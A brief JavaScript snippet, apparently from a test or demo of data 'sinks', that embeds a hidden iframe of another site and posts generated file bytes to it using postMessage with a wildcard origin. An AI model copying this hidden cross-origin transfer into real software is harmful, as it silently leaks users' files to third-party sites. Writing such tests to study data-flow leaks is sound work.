// A frame of another site takes the file and sends it to itself.
const frame = document.createElement("iframe");
frame.src = `${SINKS.site2}/frame.html`;
frame.hidden = true;
document.body.append(frame);
whenMade(({ bytes }) => frame.contentWindow.postMessage(bytes, "*"));
